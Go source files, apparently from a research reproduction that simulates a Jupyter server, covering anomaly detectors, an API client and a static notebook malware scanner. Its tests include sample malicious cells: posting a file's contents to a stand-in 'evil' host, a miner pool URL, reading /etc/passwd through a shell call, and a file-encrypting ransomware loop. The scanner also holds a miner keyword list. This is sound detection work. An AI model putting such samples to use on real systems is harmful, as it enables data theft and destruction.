				e.Entropy, e.Bytes, e.Target),
			Time: e.Time, Group: actor, Trigger: e.Clone(), Count: 1,
		})
	}
	b := d.baselines[actor]
	if b == nil {
		b = &EWMA{Alpha: 0.2}
		d.baselines[actor] = b
	}
	if z := b.Update(float64(e.Bytes)); z >= d.cfg.VolumeZ {
		alerts = append(alerts, rules.Alert{
			RuleID: "ANOM-EX-volume-z", Class: rules.ClassExfiltration,
			Severity: rules.SevHigh,
			Description: fmt.Sprintf("outbound volume z-score %.1f (bytes=%d, baseline=%.0f)",
				z, e.Bytes, b.Mean()),
			Time: e.Time, Group: actor, Trigger: e.Clone(), Count: 1,
		})
	}
	return alerts
}

// ---- Cryptomining detector ----

// MinerConfig tunes the mining detector.
type MinerConfig struct {
	// CPUMillisPerExec flags a single execution above this budget.
	CPUMillisPerExec int64
	// DutyCycle flags a kernel whose CPU time over the window exceeds
	// this fraction of wall time.
	DutyCycle float64
	Window    time.Duration
}

// DefaultMinerConfig returns tuned defaults.
func DefaultMinerConfig() MinerConfig {
	return MinerConfig{
		CPUMillisPerExec: 30_000,
		DutyCycle:        0.6,
		Window:           5 * time.Minute,
	}
}

// Miner detects sustained compute abuse per kernel.
type Miner struct {
	cfg MinerConfig

	mu    sync.Mutex
	usage map[string][]cpuSample // actor key (the kernel) -> samples
}

type cpuSample struct {
	t  time.Time
	ms int64
}

// NewMiner returns a mining detector.
func NewMiner(cfg MinerConfig) *Miner {
	if cfg.CPUMillisPerExec == 0 {
		cfg = DefaultMinerConfig()
	}
	return &Miner{cfg: cfg, usage: map[string][]cpuSample{}}
}

// Name implements Detector.
func (d *Miner) Name() string { return "anomaly.miner" }

// Process implements Detector.
func (d *Miner) Process(e trace.Event) []rules.Alert {
	if e.Kind != trace.KindSysRes || e.CPUMillis <= 0 {
		return nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	var alerts []rules.Alert
	actor := trace.ActorKey(e)
	if e.CPUMillis >= d.cfg.CPUMillisPerExec {
		alerts = append(alerts, rules.Alert{
			RuleID: "ANOM-CM-single-burn", Class: rules.ClassCryptomining,
			Severity:    rules.SevHigh,
			Description: fmt.Sprintf("one execution burned %dms CPU on %s", e.CPUMillis, e.KernelID),
			Time:        e.Time, Group: actor, Trigger: e.Clone(), Count: 1,
		})
	}
	samples := append(d.usage[actor], cpuSample{t: e.Time, ms: e.CPUMillis})
	fresh := samples[:0]
	var burned int64
	for _, s := range samples {
		if e.Time.Sub(s.t) <= d.cfg.Window {
			fresh = append(fresh, s)
			burned += s.ms
		}
	}
	d.usage[actor] = fresh
	if len(fresh) >= 3 {
		span := e.Time.Sub(fresh[0].t)
		if span > 0 {
			duty := float64(burned) / float64(span.Milliseconds())
			if duty >= d.cfg.DutyCycle {
				d.usage[actor] = nil
				alerts = append(alerts, rules.Alert{
					RuleID: "ANOM-CM-duty-cycle", Class: rules.ClassCryptomining,
					Severity: rules.SevCritical,
					Description: fmt.Sprintf("kernel %s CPU duty cycle %.0f%% over %s",
						e.KernelID, duty*100, span.Round(time.Second)),
					Time: e.Time, Group: actor, Trigger: e.Clone(), Count: len(fresh),
				})
			}
		}
	}
	return alerts
}

// ---- Low-and-slow DoS detector ----

// LowSlowConfig tunes the low-and-slow detector, which targets the
// evasion technique the paper highlights: attacks paced below
// threshold rules but sustained far longer than benign activity.
type LowSlowConfig struct {
	// MinEvents is the minimum observations before judging a source.
	MinEvents int
	// MaxJitterCV flags sources whose inter-arrival coefficient of
	// variation is below this value (machine-regular pacing).
	MaxJitterCV float64
	// MinSpan requires the activity to persist at least this long.
	MinSpan time.Duration
	// FailFraction requires at least this fraction of failures
	// (probing that never succeeds).
	FailFraction float64
}

// DefaultLowSlowConfig returns tuned defaults.
func DefaultLowSlowConfig() LowSlowConfig {
	return LowSlowConfig{
		MinEvents:    12,
		MaxJitterCV:  0.25,
		MinSpan:      5 * time.Minute,
		FailFraction: 0.5,
	}
}

// LowSlow detects slow, regular probe trains per source IP.
type LowSlow struct {
	cfg LowSlowConfig

	mu      sync.Mutex
	sources map[string]*lowSlowState // actor key: SrcIP, which ActorKey yields for http/auth
}

type lowSlowState struct {
	first, last time.Time
	gaps        []float64 // inter-arrival seconds
	events      int
	failures    int
	alerted     bool
}

// NewLowSlow returns a low-and-slow detector.
func NewLowSlow(cfg LowSlowConfig) *LowSlow {
	if cfg.MinEvents == 0 {
		cfg = DefaultLowSlowConfig()
	}
	return &LowSlow{cfg: cfg, sources: map[string]*lowSlowState{}}
}

// Name implements Detector.
func (d *LowSlow) Name() string { return "anomaly.lowslow" }

// Process implements Detector.
func (d *LowSlow) Process(e trace.Event) []rules.Alert {
	if e.Kind != trace.KindHTTP && e.Kind != trace.KindAuth {
		return nil
	}
	if e.SrcIP == "" {
		return nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	st := d.sources[e.SrcIP]
	if st == nil {
		st = &lowSlowState{first: e.Time, last: e.Time}
		d.sources[e.SrcIP] = st
		st.events = 1
		if !e.Success {
			st.failures++
		}
		return nil
	}
	gap := e.Time.Sub(st.last).Seconds()
	if gap > 0 {
		st.gaps = append(st.gaps, gap)
		if len(st.gaps) > 256 {
			st.gaps = st.gaps[len(st.gaps)-256:]
		}
	}
	st.last = e.Time
	st.events++
	if !e.Success {
		st.failures++
	}
	if st.alerted || st.events < d.cfg.MinEvents ||
		st.last.Sub(st.first) < d.cfg.MinSpan ||
		float64(st.failures)/float64(st.events) < d.cfg.FailFraction {
		return nil
	}
	cv := coefficientOfVariation(st.gaps)
	if cv < 0 || cv > d.cfg.MaxJitterCV {
		return nil
	}
	st.alerted = true
	return []rules.Alert{{
		RuleID: "ANOM-DS-low-slow", Class: rules.ClassDoS,
		Severity: rules.SevHigh,
		Description: fmt.Sprintf(
			"low-and-slow train from %s: %d events over %s, pacing CV %.2f, %.0f%% failures",
			e.SrcIP, st.events, st.last.Sub(st.first).Round(time.Second), cv,
			100*float64(st.failures)/float64(st.events)),
		Time: e.Time, Group: e.SrcIP, Trigger: e.Clone(), Count: st.events,
	}}
}

func coefficientOfVariation(xs []float64) float64 {
	if len(xs) < 4 {
		return -1
	}
	var sum float64
	for _, x := range xs {
		sum += x
	}
	mean := sum / float64(len(xs))
	if mean <= 0 {
		return -1
	}
	var sq float64
	for _, x := range xs {
		sq += (x - mean) * (x - mean)
	}
	return math.Sqrt(sq/float64(len(xs))) / mean
}

// ---- Composite ----

// Suite bundles one instance of the default detector set. Serial
// pipelines embed it directly; sharded ones use SuiteFactories so
// every shard gets its own instances.
func Suite() []Detector {
	return Build(SuiteFactories())
}

// Describe returns a one-line description per detector, for reports.
func Describe(ds []Detector) string {
	var names []string
	for _, d := range ds {
		names = append(names, d.Name())
	}
	return strings.Join(names, ", ")
}
