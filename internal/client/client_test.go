package client_test

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/client"
	"repro/internal/nbformat"
	"repro/internal/server"
)

func boot(t *testing.T, cfg server.Config) *client.Client {
	t.Helper()
	cfg.BindAddress = "127.0.0.1"
	srv := server.NewServer(cfg)
	addr, err := srv.Start()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	return client.New(addr, cfg.Auth.Token)
}

func TestAPIErrorShape(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	c.Token = "wrong"
	_, err := c.Status()
	var ae *client.APIError
	if !errors.As(err, &ae) || ae.Status != 403 {
		t.Fatalf("err = %v", err)
	}
	if !client.IsForbidden(err) {
		t.Fatal("IsForbidden false")
	}
	if !strings.Contains(ae.Error(), "403") {
		t.Fatalf("error string = %q", ae.Error())
	}
}

func TestNotebookRoundTripThroughAPI(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	nb := nbformat.New()
	nb.AppendCode("c1", `print("hi")`)
	data, _ := nb.Marshal()
	if err := c.PutNotebook("nb/test.ipynb", data); err != nil {
		t.Fatal(err)
	}
	raw, err := c.ReadFile("nb/test.ipynb")
	if err != nil {
		t.Fatal(err)
	}
	back, err := nbformat.Parse([]byte(raw))
	if err != nil {
		t.Fatal(err)
	}
	if back.SourceHash() != nb.SourceHash() {
		t.Fatal("notebook changed through API round trip")
	}
}

func TestInvalidNotebookRejected(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	if err := c.PutNotebook("nb/bad.ipynb", []byte(`{"nbformat": 2}`)); err == nil {
		t.Fatal("invalid notebook accepted")
	}
}

func TestRenameAndCheckpointHelpers(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	if err := c.PutFile("a.txt", "v1"); err != nil {
		t.Fatal(err)
	}
	if err := c.Checkpoint("a.txt"); err != nil {
		t.Fatal(err)
	}
	if err := c.Rename("a.txt", "b.txt"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ReadFile("b.txt"); err != nil {
		t.Fatal(err)
	}
}

func TestCheckpointRestoreOverAPI(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	if err := c.PutFile("nb.txt", "original"); err != nil {
		t.Fatal(err)
	}
	if err := c.Checkpoint("nb.txt"); err != nil {
		t.Fatal(err)
	}
	if err := c.PutFile("nb.txt", "CORRUPTED"); err != nil {
		t.Fatal(err)
	}
	cks, err := c.ListCheckpoints("nb.txt")
	if err != nil || len(cks) != 1 {
		t.Fatalf("checkpoints = %v %v", cks, err)
	}
	if err := c.RestoreCheckpoint("nb.txt", cks[0].ID); err != nil {
		t.Fatal(err)
	}
	got, _ := c.ReadFile("nb.txt")
	if got != "original" {
		t.Fatalf("restored = %q", got)
	}
	// Unknown checkpoint id is a clean 404.
	if err := c.RestoreCheckpoint("nb.txt", "ckpt-99"); err == nil {
		t.Fatal("unknown checkpoint restored")
	}
}

func TestMkdirAndList(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	if err := c.Mkdir("deep/nested/dir"); err != nil {
		t.Fatal(err)
	}
	entries, err := c.ListDir("deep/nested")
	if err != nil || len(entries) != 1 || entries[0].Type != "directory" {
		t.Fatalf("entries = %+v err=%v", entries, err)
	}
}

func TestKernelLifecycleHelpers(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	k, err := c.StartKernel("minilang")
	if err != nil {
		t.Fatal(err)
	}
	ks, err := c.ListKernels()
	if err != nil || len(ks) != 1 {
		t.Fatalf("list = %v %v", ks, err)
	}
	if err := c.ShutdownKernel(k.ID); err != nil {
		t.Fatal(err)
	}
	ks, _ = c.ListKernels()
	if len(ks) != 0 {
		t.Fatal("kernel survived shutdown")
	}
}

func TestExecuteCollectsFullFlow(t *testing.T) {
	c := boot(t, server.HardenedConfig("tok"))
	k, _ := c.StartKernel("")
	kc, err := c.ConnectKernel(k.ID, "alice")
	if err != nil {
		t.Fatal(err)
	}
	defer kc.Close()
	res, err := kc.Execute(`print("a")
print("b")`)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stdout != "a\nb\n" || res.ExecutionCount != 1 || len(res.Messages) != 5 {
		t.Fatalf("res = %+v", res)
	}
}
