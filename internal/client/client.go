// Package client is a Jupyter API client for the simulated server:
// REST calls (contents, kernels, sessions, terminals), login, and the
// WebSocket kernel-channel and terminal protocols.
//
// Attack drivers, the benign workload generator, honeypot probes, and
// the examples all drive the server through this client, so every
// actor produces protocol-faithful traffic for the monitors to see.
package client

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"repro/internal/jmsg"
	"repro/internal/wsproto"
)

// Client talks to one Jupyter server.
type Client struct {
	BaseURL string // host:port
	Token   string
	Cookie  string // session cookie value after Login
	HTTP    *http.Client

	// TokenInURL sends the token as ?token= instead of the header —
	// the credential-leaking pattern hardened servers reject.
	TokenInURL bool

	msgSeq  int
	session string
}

// New returns a client for addr ("host:port").
func New(addr, token string) *Client {
	return &Client{
		BaseURL: addr,
		Token:   token,
		HTTP:    &http.Client{Timeout: 30 * time.Second},
		session: fmt.Sprintf("cli-sess-%d", time.Now().UnixNano()%1_000_000),
	}
}

// APIError is a non-2xx REST response.
type APIError struct {
	Status  int
	Message string
}

func (e *APIError) Error() string {
	return fmt.Sprintf("client: HTTP %d: %s", e.Status, e.Message)
}

// IsForbidden reports whether err is a 403 APIError.
func IsForbidden(err error) bool {
	var ae *APIError
	return errors.As(err, &ae) && ae.Status == http.StatusForbidden
}

func (c *Client) url(path string) string {
	u := "http://" + c.BaseURL + path
	if c.TokenInURL && c.Token != "" {
		sep := "?"
		if strings.Contains(path, "?") {
			sep = "&"
		}
		u += sep + "token=" + c.Token
	}
	return u
}

func (c *Client) do(method, path string, body any, out any) error {
	var rdr io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return err
		}
		rdr = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, c.url(path), rdr)
	if err != nil {
		return err
	}
	if c.Token != "" && !c.TokenInURL {
		req.Header.Set("Authorization", "token "+c.Token)
	}
	if c.Cookie != "" {
		req.AddCookie(&http.Cookie{Name: "jupyter-session", Value: c.Cookie})
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := c.HTTP.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
	if err != nil {
		return err
	}
	if resp.StatusCode >= 400 {
		var msg struct {
			Message string `json:"message"`
		}
		_ = json.Unmarshal(data, &msg)
		return &APIError{Status: resp.StatusCode, Message: msg.Message}
	}
	if out != nil && len(data) > 0 {
		return json.Unmarshal(data, out)
	}
	return nil
}

// Do performs a raw JSON API call — an escape hatch for endpoints
// without a dedicated helper (sessions, checkpoints listing).
func Do(c *Client, method, path string, body, out any) error {
	return c.do(method, path, body, out)
}

// Status fetches /api/status.
func (c *Client) Status() (map[string]any, error) {
	var out map[string]any
	err := c.do(http.MethodGet, "/api/status", nil, &out)
	return out, err
}

// Login posts credentials and stores the session cookie.
func (c *Client) Login(user, password string) error {
	var out struct {
		Session string `json:"session"`
	}
	err := c.do(http.MethodPost, "/login", map[string]string{
		"username": user, "password": password,
	}, &out)
	if err != nil {
		return err
	}
	c.Cookie = out.Session
	return nil
}

// ContentsModel mirrors the server's contents API shape.
type ContentsModel struct {
	Name         string          `json:"name"`
	Path         string          `json:"path"`
	Type         string          `json:"type"`
	Format       string          `json:"format,omitempty"`
	Content      json.RawMessage `json:"content,omitempty"`
	Size         int             `json:"size,omitempty"`
	LastModified string          `json:"last_modified,omitempty"`
}

// GetContents fetches a file, notebook, or directory listing.
func (c *Client) GetContents(path string) (*ContentsModel, error) {
	var out ContentsModel
	err := c.do(http.MethodGet, "/api/contents/"+path, nil, &out)
	return &out, err
}

// ListDir returns the entries of a directory.
func (c *Client) ListDir(path string) ([]ContentsModel, error) {
	m, err := c.GetContents(path)
	if err != nil {
		return nil, err
	}
	var children []ContentsModel
	if err := json.Unmarshal(m.Content, &children); err != nil {
		return nil, fmt.Errorf("client: directory content: %w", err)
	}
	return children, nil
}

// ReadFile returns a text file's content.
func (c *Client) ReadFile(path string) (string, error) {
	m, err := c.GetContents(path)
	if err != nil {
		return "", err
	}
	if m.Format == "json" {
		return string(m.Content), nil
	}
	var s string
	if err := json.Unmarshal(m.Content, &s); err != nil {
		return string(m.Content), nil
	}
	return s, nil
}

// PutFile writes a text file.
func (c *Client) PutFile(path, content string) error {
	b, _ := json.Marshal(content)
	return c.do(http.MethodPut, "/api/contents/"+path, map[string]any{
		"type": "file", "format": "text", "content": json.RawMessage(b),
	}, nil)
}

// PutNotebook writes a notebook JSON document.
func (c *Client) PutNotebook(path string, notebookJSON []byte) error {
	return c.do(http.MethodPut, "/api/contents/"+path, map[string]any{
		"type": "notebook", "format": "json", "content": json.RawMessage(notebookJSON),
	}, nil)
}

// Mkdir creates a directory.
func (c *Client) Mkdir(path string) error {
	return c.do(http.MethodPut, "/api/contents/"+path, map[string]any{"type": "directory"}, nil)
}

// Delete removes a file.
func (c *Client) Delete(path string) error {
	return c.do(http.MethodDelete, "/api/contents/"+path, nil, nil)
}

// Rename moves a file.
func (c *Client) Rename(oldPath, newPath string) error {
	return c.do(http.MethodPatch, "/api/contents/"+oldPath, map[string]string{"path": newPath}, nil)
}

// Checkpoint creates a checkpoint for a file.
func (c *Client) Checkpoint(path string) error {
	return c.do(http.MethodPost, "/api/contents/"+path+"/checkpoints", map[string]string{}, nil)
}

// CheckpointModel describes one saved checkpoint.
type CheckpointModel struct {
	ID           string `json:"id"`
	LastModified string `json:"last_modified"`
}

// ListCheckpoints returns the checkpoints for a file, oldest first.
func (c *Client) ListCheckpoints(path string) ([]CheckpointModel, error) {
	var out []CheckpointModel
	err := c.do(http.MethodGet, "/api/contents/"+path+"/checkpoints", nil, &out)
	return out, err
}

// RestoreCheckpoint restores a file to a saved checkpoint.
func (c *Client) RestoreCheckpoint(path, id string) error {
	return c.do(http.MethodPost, "/api/contents/"+path+"/checkpoints/"+id, map[string]string{}, nil)
}

// KernelModel mirrors the kernels API shape.
type KernelModel struct {
	ID             string `json:"id"`
	Name           string `json:"name"`
	ExecutionState string `json:"execution_state"`
}

// StartKernel launches a kernel.
func (c *Client) StartKernel(name string) (*KernelModel, error) {
	var out KernelModel
	err := c.do(http.MethodPost, "/api/kernels", map[string]string{"name": name}, &out)
	return &out, err
}

// ListKernels lists running kernels.
func (c *Client) ListKernels() ([]KernelModel, error) {
	var out []KernelModel
	err := c.do(http.MethodGet, "/api/kernels", nil, &out)
	return out, err
}

// ShutdownKernel stops a kernel.
func (c *Client) ShutdownKernel(id string) error {
	return c.do(http.MethodDelete, "/api/kernels/"+id, nil, nil)
}

// NewTerminal creates a terminal and returns its name.
func (c *Client) NewTerminal() (string, error) {
	var out struct {
		Name string `json:"name"`
	}
	err := c.do(http.MethodPost, "/api/terminals", map[string]string{}, &out)
	return out.Name, err
}

// ---- WebSocket kernel channel ----

// KernelConn is an open kernel-channel WebSocket.
type KernelConn struct {
	ws       *wsproto.Conn
	kernelID string
	session  string
	username string
	seq      int
}

func (c *Client) dialWS(path string) (*wsproto.Conn, error) {
	raw, err := net.DialTimeout("tcp", c.BaseURL, 10*time.Second)
	if err != nil {
		return nil, err
	}
	hdr := http.Header{}
	if c.Cookie != "" {
		hdr.Set("Cookie", "jupyter-session="+c.Cookie)
	}
	if c.Token != "" {
		if c.TokenInURL {
			sep := "?"
			if strings.Contains(path, "?") {
				sep = "&"
			}
			path += sep + "token=" + c.Token
		} else {
			hdr.Set("Authorization", "token "+c.Token)
		}
	}
	ws, err := wsproto.Dial(raw, c.BaseURL, path, hdr)
	if err != nil {
		raw.Close()
		return nil, err
	}
	return ws, nil
}

// ConnectKernel opens the kernel-channel WebSocket.
func (c *Client) ConnectKernel(kernelID, username string) (*KernelConn, error) {
	ws, err := c.dialWS("/api/kernels/" + kernelID + "/channels")
	if err != nil {
		return nil, err
	}
	return &KernelConn{ws: ws, kernelID: kernelID, session: c.session, username: username}, nil
}

// Close closes the channel.
func (kc *KernelConn) Close() error {
	return kc.ws.Close(wsproto.CloseNormal, "done")
}

// Send transmits one protocol message.
func (kc *KernelConn) Send(m *jmsg.Message) error {
	payload, err := m.MarshalWS()
	if err != nil {
		return err
	}
	return kc.ws.WriteMessage(wsproto.OpText, payload)
}

// Recv reads one protocol message.
func (kc *KernelConn) Recv() (*jmsg.Message, error) {
	for {
		op, payload, err := kc.ws.ReadMessage()
		if err != nil {
			return nil, err
		}
		if op != wsproto.OpText && op != wsproto.OpBinary {
			continue
		}
		return jmsg.UnmarshalWS(payload)
	}
}

// ExecResult is the client-visible outcome of one execution.
type ExecResult struct {
	Status         string
	ExecutionCount int
	Stdout         string
	EName, EValue  string
	Messages       []*jmsg.Message // full iopub + reply sequence
}

// Execute sends an execute_request and collects the response flow
// through the execute_reply.
func (kc *KernelConn) Execute(code string) (*ExecResult, error) {
	kc.seq++
	req, err := jmsg.New(jmsg.TypeExecuteRequest,
		fmt.Sprintf("%s-req-%d", kc.session, kc.seq),
		kc.session, kc.username, time.Now(),
		jmsg.ExecuteRequest{Code: code, StoreHistory: true})
	if err != nil {
		return nil, err
	}
	req.Channel = jmsg.ChannelShell
	if err := kc.Send(req); err != nil {
		return nil, err
	}
	res := &ExecResult{}
	for {
		m, err := kc.Recv()
		if err != nil {
			return res, err
		}
		res.Messages = append(res.Messages, m)
		switch m.Header.MsgType {
		case jmsg.TypeStream:
			var sc jmsg.StreamContent
			if m.DecodeContent(&sc) == nil && sc.Name == "stdout" {
				res.Stdout += sc.Text
			}
		case jmsg.TypeError:
			var ec jmsg.ErrorContent
			if m.DecodeContent(&ec) == nil {
				res.EName, res.EValue = ec.EName, ec.EValue
			}
		case jmsg.TypeExecuteReply:
			var er jmsg.ExecuteReply
			if err := m.DecodeContent(&er); err != nil {
				return res, err
			}
			res.Status = er.Status
			res.ExecutionCount = er.ExecutionCount
			if res.EName == "" {
				res.EName, res.EValue = er.EName, er.EValue
			}
			return res, nil
		}
	}
}

// ---- Terminal WebSocket ----

// TerminalConn is an open terminal WebSocket.
type TerminalConn struct {
	ws *wsproto.Conn
}

// ConnectTerminal opens a terminal WebSocket by name.
func (c *Client) ConnectTerminal(name string) (*TerminalConn, error) {
	ws, err := c.dialWS("/terminals/websocket/" + name)
	if err != nil {
		return nil, err
	}
	return &TerminalConn{ws: ws}, nil
}

// Run sends a command line and returns the terminal output.
func (tc *TerminalConn) Run(cmd string) (string, error) {
	payload, _ := json.Marshal([]string{"stdin", cmd + "\n"})
	if err := tc.ws.WriteMessage(wsproto.OpText, payload); err != nil {
		return "", err
	}
	for {
		op, data, err := tc.ws.ReadMessage()
		if err != nil {
			return "", err
		}
		if op != wsproto.OpText {
			continue
		}
		var frame []string
		if err := json.Unmarshal(data, &frame); err != nil || len(frame) < 2 {
			continue
		}
		if frame[0] == "stdout" {
			return frame[1], nil
		}
	}
}

// Close closes the terminal connection.
func (tc *TerminalConn) Close() error {
	return tc.ws.Close(wsproto.CloseNormal, "done")
}
