package nbscan

import (
	"strings"
	"testing"

	"repro/internal/nbformat"
	"repro/internal/rules"
)

func nb(sources ...string) *nbformat.Notebook {
	out := nbformat.New()
	for i, src := range sources {
		out.AppendCode("c"+string(rune('0'+i)), src)
	}
	return out
}

func classesOf(findings []Finding) map[string]bool {
	m := map[string]bool{}
	for _, f := range findings {
		m[f.Class] = true
	}
	return m
}

func TestCleanNotebookPasses(t *testing.T) {
	clean := nb(
		`data = read_file("data/train.csv")`+"\n"+`print(len(data))`,
		`rows = split(data, "\n")`+"\n"+`print("rows", len(rows))`,
		`write_file("results/out.json", "{}")`,
	)
	clean.AppendMarkdown("md", "# Notes with scary words: encrypt shell xmrig")
	if findings := ScanNotebook(clean); len(findings) != 0 {
		t.Fatalf("clean notebook flagged: %+v", findings)
	}
}

func TestRansomwareShape(t *testing.T) {
	findings := ScanNotebook(nb(`key = "k"
for f in list_files("notebooks")
    write_file(f, encrypt(read_file(f), key))
end`))
	if !classesOf(findings)[rules.ClassRansomware] {
		t.Fatalf("ransomware shape missed: %+v", findings)
	}
	if TopSeverity(findings) != rules.SevCritical {
		t.Fatalf("severity = %s", TopSeverity(findings))
	}
}

func TestExfilShapes(t *testing.T) {
	direct := ScanNotebook(nb(`http_post("http://evil", read_file("models/w.bin"))`))
	if !classesOf(direct)[rules.ClassExfiltration] {
		t.Fatalf("direct exfil missed: %+v", direct)
	}
	packed := ScanNotebook(nb(`payload = b64encode(data)
http_post("http://evil", payload)`))
	// b64+post fires even without a visible read in the same cell.
	if !classesOf(packed)[rules.ClassExfiltration] {
		t.Fatalf("packed exfil missed: %+v", packed)
	}
}

func TestMinerStrings(t *testing.T) {
	findings := ScanNotebook(nb(`pool = "stratum+tcp://pool.evil:4444"`))
	if !classesOf(findings)[rules.ClassCryptomining] {
		t.Fatalf("miner string missed: %+v", findings)
	}
}

func TestShellEscape(t *testing.T) {
	findings := ScanNotebook(nb(`out = shell("cat /etc/passwd")`))
	if !classesOf(findings)[rules.ClassZeroDay] {
		t.Fatalf("shell escape missed: %+v", findings)
	}
}

func TestUnparseableCellSurfaced(t *testing.T) {
	findings := ScanNotebook(nb(`this is not (valid`))
	if len(findings) != 1 || findings[0].Severity != rules.SevInfo {
		t.Fatalf("unparseable cell: %+v", findings)
	}
	if !strings.Contains(findings[0].Evidence, "unscannable") {
		t.Fatalf("evidence = %q", findings[0].Evidence)
	}
}

func TestBenignReadWithoutPostNotFlagged(t *testing.T) {
	// read_file alone or print+read must not trip the exfil shape.
	findings := ScanNotebook(nb(`d = read_file("data/a.csv")
print(len(d))`))
	if classesOf(findings)[rules.ClassExfiltration] {
		t.Fatalf("benign read flagged: %+v", findings)
	}
}

func TestFindingsSortedBySeverity(t *testing.T) {
	findings := ScanNotebook(nb(
		`print(hostname(), env("USER"))`,     // low
		`write_file("f", encrypt("d", "k"))`, // critical
	))
	if len(findings) < 2 || findings[0].Severity != rules.SevCritical {
		t.Fatalf("ordering: %+v", findings)
	}
}

func TestRender(t *testing.T) {
	if !strings.Contains(Render(nil), "clean") {
		t.Fatal("clean render wrong")
	}
	out := Render(ScanNotebook(nb(`shell("id")`)))
	if !strings.Contains(out, "zero_day") || !strings.Contains(out, "findings") {
		t.Fatalf("render = %q", out)
	}
}
