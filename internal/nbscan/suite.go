package nbscan

import (
	"context"
	"strings"

	"repro/internal/nbformat"
	"repro/internal/rules"
	"repro/internal/scan"
)

// SweepSuite adapts the notebook scanner to the unified scan suite
// contract: it deep-scans every .ipynb in the target's content
// filesystem, so a fleet sweep flags trojan notebooks already resident
// on an exposed server — the paper's "untrusted cell" vector surfaced
// by the census, not just at upload time.
type SweepSuite struct{}

// Name implements scan.Suite.
func (SweepSuite) Name() string { return SuiteName }

// Description implements scan.Suite.
func (SweepSuite) Description() string {
	return "static deep scan of every notebook on the target's filesystem"
}

// Run implements scan.Suite. A target without a reachable filesystem
// yields an empty outcome rather than an error: remote-only sweeps
// simply cannot see notebook contents.
func (SweepSuite) Run(ctx context.Context, t scan.Target) (scan.Outcome, error) {
	if t.FS == nil {
		return scan.Outcome{}, nil
	}
	nodes, err := t.FS.Walk("")
	if err != nil {
		return scan.Outcome{}, err
	}
	var findings []scan.Finding
	for _, n := range nodes {
		if ctx.Err() != nil {
			return scan.Outcome{}, ctx.Err()
		}
		if !strings.HasSuffix(n.Path, ".ipynb") {
			continue
		}
		nb, err := nbformat.Parse(n.Content)
		if err != nil {
			findings = append(findings, scan.Finding{
				Suite: SuiteName, CheckID: "NB-bad-format", Title: "Notebook does not parse",
				Severity: rules.SevInfo, Class: rules.ClassZeroDay, Target: n.Path,
				Evidence: "unparseable notebook document: " + err.Error(),
			})
			continue
		}
		for _, f := range ScanNotebook(nb) {
			// Qualify the cell ID with the notebook path so findings
			// across files stay distinct.
			f.Target = n.Path + "#" + f.Target
			findings = append(findings, f)
		}
	}
	scan.Sort(findings)
	return scan.Outcome{Findings: findings}, nil
}

func init() { scan.Register(SweepSuite{}) }
