// Package nbscan statically analyzes notebook documents before they
// execute — the "security assessment extension" capability the paper's
// related work attributes to NVIDIA and Amazon tooling, built on the
// minilang parser so the scanner sees exactly what a kernel would run.
//
// The scanner parses every code cell, extracts the primitives it
// invokes, and matches call *combinations* against attack patterns:
// read+post is exfiltration-shaped, encrypt+write is ransomware-shaped,
// a shell call is an escape. The server can run the scan on every
// notebook PUT so trojan notebooks are flagged on arrival, before any
// victim opens them — the paper's "untrusted cell" vector intercepted
// at the file-browser boundary.
package nbscan

import (
	"fmt"
	"regexp"
	"sort"
	"strings"

	"repro/internal/kernel/minilang"
	"repro/internal/nbformat"
	"repro/internal/rules"
	"repro/internal/scan"
)

// SuiteName is this scanner's key in the scan suite registry.
const SuiteName = "nbscan"

// Finding is the unified scan finding; nbscan produces findings with
// Suite = "nbscan", the flagged cell ID in Target, and the reason in
// Evidence. The alias is the compatibility shim for callers that
// predate the scan package.
type Finding = scan.Finding

var minerStrings = regexp.MustCompile(`(?i)(stratum\+tcp|xmrig|minerd|cryptonight|coinhive)`)

// pattern is one call-combination rule.
type pattern struct {
	name     string // check ID suffix: finding CheckID is "NB-" + name
	class    string
	severity rules.Severity
	requires []string // all must be called in the same cell
	reason   string
}

var patterns = []pattern{
	{
		name: "ransomware-shape", class: rules.ClassRansomware, severity: rules.SevCritical,
		requires: []string{"encrypt", "write_file"},
		reason:   "cell encrypts data and writes it back (ransomware shape)",
	},
	{
		name: "exfil-shape", class: rules.ClassExfiltration, severity: rules.SevHigh,
		requires: []string{"read_file", "http_post"},
		reason:   "cell reads local data and posts it out (exfiltration shape)",
	},
	{
		name: "packed-exfil-shape", class: rules.ClassExfiltration, severity: rules.SevHigh,
		requires: []string{"b64encode", "http_post"},
		reason:   "cell base64-packs data before an outbound post",
	},
	{
		name: "shell-escape", class: rules.ClassZeroDay, severity: rules.SevHigh,
		requires: []string{"shell"},
		reason:   "cell escapes to a shell",
	},
	{
		name: "recon", class: rules.ClassZeroDay, severity: rules.SevLow,
		requires: []string{"hostname", "env"},
		reason:   "cell gathers host identity and environment",
	},
	{
		name: "destructive-sweep", class: rules.ClassRansomware, severity: rules.SevMedium,
		requires: []string{"list_files", "delete_file"},
		reason:   "cell enumerates and deletes files",
	},
}

// ScanSource statically analyzes one cell source.
func ScanSource(cellID, src string) []Finding {
	var out []Finding
	if m := minerStrings.FindString(src); m != "" {
		out = append(out, Finding{
			Suite: SuiteName, CheckID: "NB-miner-string", Title: "Miner indicator in cell source",
			Severity: rules.SevCritical, Class: rules.ClassCryptomining, Target: cellID,
			Evidence:    fmt.Sprintf("miner indicator %q in source", m),
			Remediation: "Quarantine the notebook; mining payloads indicate compromise.",
		})
	}
	prog, err := minilang.Parse(src)
	if err != nil {
		// Unparseable code cells cannot be vetted; surface that fact
